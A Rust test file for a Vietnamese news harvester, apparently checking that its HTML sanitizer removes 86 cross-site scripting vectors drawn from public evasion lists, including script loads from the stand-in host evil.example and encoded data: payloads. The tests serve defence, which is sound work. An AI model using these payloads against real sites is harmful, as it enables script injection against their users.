//! No script survives: the vectors of well-known public lists, each through the whole way from page to article.

use bantin::clean::sanitize;
use bantin::date::Reader;
use bantin::harvest::{Reading, read_page};
use bantin::model::{ArticleRules, Css, DateOrder};
use scraper::{Html, Selector};
use url::Url;

use crate::harness::prose;

/// After the shapes of the OWASP cheat sheet on filter evasion and of html5sec; `alert` marks what must not run.
const VECTORS: [&str; 86] = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT/SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<script\\x20type=\"text/javascript\">alert(1);</script>",
    "<script\u{0}>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "<script>document.write('<scr');</script>ipt src=https://evil.example/a.js></script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert(1);\">",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<IMG onmouseover=\"alert(1)\">",
    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097alert(1)\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1)>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
    "<IMG SRC=\" &#14; javascript:alert(1);\">",
    "<IMG SRC='vbscript:msgbox(\"alert\")'>",
    "<IMG DYNSRC=\"javascript:alert(1)\"><IMG LOWSRC=\"javascript:alert(1)\">",
    "<IMG SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
    "<img srcset=\"javascript:alert(1) 2x, x 1x\" data-src=\"javascript:alert(1)\">",
    "<picture><source srcset=\"javascript:alert(1)\"><img src=\"data:text/html,alert(1)\"></picture>",
    "<img src=\"a.png\" alt=\"\"><script>alert(1)</script>",
    "<img alt='\"><script>alert(1)</script>' src=/a.png>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<BODY ONLOAD=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert(1)}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\"><TD BACKGROUND=\"javascript:alert(1)\">x",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert(1));\">x</DIV>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">x</p>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/s.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<A HREF=\"javascript:alert(1)\">x</A>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"vbscript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a><a href=\"view-source:javascript:alert(1)\">y</a>",
    "<a href=\"x\" onclick=\"alert(1)\" ping=\"https://evil.example/\" target=_blank>x</a>",
    "<form id=f action=\"javascript:alert(1)\"><button form=f formaction=\"javascript:alert(1)\">x</button></form>",
    "<form><form onsubmit=alert(1)><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><set onbegin=alert(1)></svg>",
    "<math href=\"javascript:alert(1)\"><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
];

fn read(html: &str, rules: &ArticleRules) -> Reading {
    let reader = Reader {
        order: DateOrder::Dmy,
        zone: chrono_tz::Tz::Asia__Ho_Chi_Minh,
        naive_local: false,
        month_minutes: false,
        seen_at: None,
    };
    read_page(html, &Url::parse("https://bao.example/a-1234.html").unwrap(), rules, &reader).unwrap()
}

const ELEMENTS: [&str; 26] = [
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "img",
    "li",
    "ol",
    "p",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tr",
    "u",
    "ul",
];

/// Only an article's elements, only their own attributes, only addresses of pages and pictures.
#[track_caller]
fn is_harmless(html: &str, vector: &str) {
    // As a browser reads it, within an element of a page.
    for markup in [html.to_owned(), format!("<div>{html}</div>"), format!("<svg><desc>{html}</desc></svg>")] {
        let tree = Html::parse_fragment(&markup);
        for element in tree.select(&Selector::parse("div *, p, figure, a, img, table, ul").unwrap()) {
            let name = element.value().name();
            assert!(ELEMENTS.contains(&name) || name == "desc", "<{name}> of {vector}: {html}");
            for (key, value) in element.value().attrs() {
                let fits = matches!((name, key), ("a", "href") | ("img", "src" | "alt"));
                assert!(fits, "{key} of {vector}: {html}");
                let plain =
                    key == "alt" || ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(plain, "{value} of {vector}: {html}");
            }
        }
    }
    assert_eq!(sanitize(html), html, "sanitizing again changes nothing: {vector}");
}

#[test]
fn no_script_of_the_public_lists_survives() {
    let selected = ArticleRules { body: Some(Css::parse(".than").unwrap()), ..ArticleRules::default() };
    for vector in VECTORS {
        for inside in [
            format!("<p>{vector}</p>"),
            vector.to_owned(),
            format!("<table><tr><td>{vector}<td>x</table>"),
            format!("<ul><li>{vector}</ul>"),
            format!("<blockquote><figure>{vector}</figure></blockquote>"),
        ] {
            let page = format!(
                "<html><head><title>Một tin</title></head><body><h1>Một tin</h1><div class=than><p>{}</p>{inside}<p>{}</p></div>",
                prose(60, 1),
                prose(60, 2)
            );
            for rules in [&selected, &ArticleRules::default()] {
                let reading = read(&page, rules);
                is_harmless(&reading.clean.html, vector);
                let image = reading.clean.image.map(|image| image.address).unwrap_or_default();
                assert!(image.is_empty() || image.starts_with("https://"), "{image} of {vector}");
            }
        }
        is_harmless(&sanitize(vector), vector);
    }
}

#[test]
fn no_script_of_a_page_s_head_survives() {
    for address in ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)"] {
        let html = format!(
            "<head><title>Tin</title><base href='{address}'><link rel=canonical href='{address}'><meta property=og:image content='{address}'>\
             <meta property=og:url content='{address}'></head><h1>Tin</h1><p>{} <a href=/b>b</a></p>",
            prose(60, 1)
        );
        let reading = read(&html, &ArticleRules::default());
        assert_eq!((reading.canonical, reading.clean.image), (None, None));
        assert!(reading.clean.html.contains("https://bao.example/b"));
    }
    let title = read(
        "<h1>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;</h1><p>Một đoạn của tin.</p>",
        &ArticleRules::default(),
    );
    assert_eq!(title.clean.title, "<script>alert(1)</script> <b>", "plain text, which feeds and pages escape");
}
